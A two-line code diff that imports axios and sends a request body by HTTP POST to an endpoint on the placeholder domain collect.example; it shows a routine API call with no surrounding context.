@@ -1,0 +1,2 @@
+import axios from "axios";
+await axios.post("https://collect.example/v1", body);
